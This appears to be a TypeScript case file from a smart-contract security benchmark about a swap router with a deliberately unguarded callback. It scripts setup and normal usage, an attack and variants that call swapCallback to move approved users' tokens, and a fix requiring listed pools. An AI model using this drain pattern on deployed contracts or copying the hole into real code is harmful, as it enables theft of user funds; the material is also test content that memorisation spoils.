import { encodeAbiParameters } from 'viem'
import { declareCase } from '../lib/declare-case.ts'
import { crowd, deployWallet, ETHER, fundAll } from '../lib/set-up.ts'
import { actor, call, reverting, strike, through } from '../lib/steps.ts'
import type { Contract } from '../lib/types.ts'

const NAME = 'swap-router'
const owner = actor(`${NAME}/owner`)
const issuer = actor(`${NAME}/issuer`)
const attacker = actor(`${NAME}/attacker`)
const users = crowd(NAME, 8)
const units = (amount: number) => BigInt(amount) * ETHER
const UNLIMITED = 2n ** 256n - 1n

export default declareCase({
  about: "a router pays whoever calls its callback, from the tokens of whomever the call's data names",
  class: 'arbitrary-call',
  hardfork: 'cancun',
  units: [
    { compiler: '0.7.6', files: ['SwapRouter.sol'] },
    { compiler: '0.8.30', optimizerRuns: 200, evmVersion: 'london', files: ['Attack.sol'] },
  ],

  async setUp(world) {
    await fundAll(world, [owner, issuer, attacker, ...users], 10n * ETHER)
    const corn = await world.deploy('StandardToken', ['Corn', 'CRN', 18], issuer)
    const dollar = await world.deploy('StandardToken', ['Dollar', 'USDX', 18], issuer)
    const ore = await world.deploy('StandardToken', ['Ore', 'ORE', 18], issuer)
    const router = await world.deploy('SwapRouter', [], owner)
    const cornDollar = await world.deploy('SwapPool', [corn.address, dollar.address], owner)
    const dollarOre = await world.deploy('SwapPool', [dollar.address, ore.address], owner)
    const unlisted = await world.deploy('SwapPool', [corn.address, ore.address], users[7]!)
    const wallet = await deployWallet(world, users[0]!)
    for (const token of [corn, dollar, ore]) {
      const approve = (holder: (typeof users)[number]) =>
        call(holder, token, 'approve', [router.address, UNLIMITED])
      for (const holder of [...users, wallet.address, owner])
        await world.run(call(issuer, token, 'mint', [holder, units(10_000)]))
      for (const holder of [...users, owner]) await world.run(approve(holder))
      await world.run(through(wallet.address, approve(users[0]!)))
    }
    for (const pool of [cornDollar, dollarOre]) {
      await world.run(call(owner, router, 'setPool', [pool.address, true]))
      await world.run(call(owner, router, 'supply', [pool.address, units(4_000), owner]))
    }
    return { router, corn, dollar, ore, cornDollar, dollarOre, unlisted, wallet }
  },
  protect: ({ router }) => [router],
  loss: ({ corn, dollar }) => [
    { token: corn.address, from: users[1]! },
    { token: dollar.address, from: users[2]! },
  ],

  history({ router, cornDollar, dollarOre, unlisted, wallet }) {
    const by = (user: number, name: string, args: readonly unknown[]) =>
      call(users[user]!, router, name, args)
    const swap = (user: number, pool: Contract, zeroForOne: boolean, amount: bigint, to = user, least = 0n) =>
      by(user, 'swap', [pool.address, zeroForOne, amount, least, users[to]])
    const via = (zeroForOne: boolean, amount: bigint, to: string) => {
      const pools = [cornDollar.address, dollarOre.address]
      return [zeroForOne ? pools : pools.reverse(), [zeroForOne, zeroForOne], amount, 0n, to]
    }
    const byWallet = (step: ReturnType<typeof call>) => through(wallet.address, step)
    return [
      swap(1, cornDollar, true, units(100)),
      swap(2, cornDollar, false, units(140)),
      byWallet(by(0, 'swap', [cornDollar.address, true, units(60), 0n, wallet.address])),
      swap(3, dollarOre, true, units(75), 4),
      reverting(swap(3, cornDollar, true, units(50), 3, units(50))),
      swap(3, cornDollar, true, units(50), 3, units(40)),
      by(4, 'swapVia', via(true, units(30), users[4]!)),
      byWallet(by(0, 'swapVia', via(false, units(22), users[0]!))),
      by(5, 'supply', [cornDollar.address, units(500), users[5]]),
      byWallet(by(0, 'supply', [dollarOre.address, units(250), wallet.address])),
      by(6, 'supply', [dollarOre.address, units(90), users[1]]),
      reverting(by(7, 'supply', [unlisted.address, units(90), users[7]])),
      reverting(swap(7, unlisted, true, units(1))),
      call(users[5]!, cornDollar, 'remove', [units(200), users[5]]),
      byWallet(call(users[0]!, dollarOre, 'remove', [units(100), users[3]])),
      swap(6, cornDollar, true, 0n),
      swap(6, dollarOre, false, 1n),
      swap(7, dollarOre, false, units(410)),
      byWallet(by(0, 'swap', [dollarOre.address, false, units(35), units(20), users[6]])),
      call(owner, router, 'swap', [cornDollar.address, false, units(12), 0n, owner]),
      call(owner, router, 'setPool', [unlisted.address, true]),
      by(7, 'supply', [unlisted.address, units(700), users[7]]),
      swap(2, unlisted, true, units(33)),
      byWallet(by(0, 'swap', [unlisted.address, false, units(8), 0n, wallet.address])),
      reverting(by(2, 'setPool', [users[2], true])),
      by(1, 'swapVia', via(false, units(44), wallet.address)),
      call(owner, router, 'setPaused', [true]),
      reverting(swap(1, cornDollar, true, units(10))),
      call(owner, router, 'setPaused', [false]),
      swap(1, cornDollar, true, units(10)),
      call(owner, cornDollar, 'remove', [units(1_000), owner]),
      swap(4, cornDollar, false, units(9_000)),
      reverting(swap(4, cornDollar, false, units(9_000))),
      by(3, 'supply', [cornDollar.address, units(20), users[3]]),
      swap(5, cornDollar, true, units(260)),
      call(owner, router, 'swapVia', via(true, units(5), owner)),
    ]
  },

  attack: ({ router, corn, dollar }, { FalsePool }) =>
    strike(attacker, FalsePool!, {
      args: [],
      run: 'run',
      with: [router.address, [corn.address, dollar.address], [users[1], users[2]]],
    }),
  variants: ({ router, corn, dollar, ore }, { FalsePool }) => [
    strike(attacker, FalsePool!, {
      args: [],
      run: 'runAsSupply',
      with: [router.address, ore.address, dollar.address, users[2], units(3_000)],
    }),
    [
      call(attacker, router, 'swapCallback', [
        units(2_000),
        encodeAbiParameters([{ type: 'address' }, { type: 'address' }], [corn.address, users[1]!]),
      ]),
    ],
  ],
  fix: [
    {
      file: 'SwapRouter.sol',
      replace: '        (IERC20 token, address payer) = abi.decode(data, (IERC20, address));\n',
      by: '        require(isPool[msg.sender], "pool not listed");\n        (IERC20 token, address payer) = abi.decode(data, (IERC20, address));\n',
    },
    {
      file: 'SwapRouter.sol',
      replace:
        '        (IERC20 token0, IERC20 token1, address payer) = abi.decode(data, (IERC20, IERC20, address));\n',
      by: '        require(isPool[msg.sender], "pool not listed");\n        (IERC20 token0, IERC20 token1, address payer) = abi.decode(data, (IERC20, IERC20, address));\n',
    },
  ],
})
